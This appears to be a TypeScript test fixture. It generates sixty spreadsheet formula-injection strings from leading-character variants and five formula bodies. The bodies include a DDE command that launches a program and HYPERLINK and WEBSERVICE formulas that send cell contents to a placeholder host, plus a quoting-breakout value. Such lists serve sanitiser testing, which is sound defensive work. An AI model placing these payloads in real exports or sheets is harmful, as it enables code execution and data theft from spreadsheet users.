const leads = ['=', '+', '-', '@', '\t=', '\r@', '\u0001=', ' =', '\u200b+', '\uff1d', "'=", '\n-'] as const;

const bodies = [
  '1+1',
  'HYPERLINK("https://example.org/?"&A1,"Press me")',
  `cmd|' /C calc'!A0`,
  'WEBSERVICE("https://example.org/"&A2)',
  '2;=1+1",=1+1,"',
] as const;

/** Sixty texts that a spreadsheet would run if it were let. */
export const payloads: readonly string[] = leads.flatMap((lead) => bodies.map((body) => `${lead}${body}`));
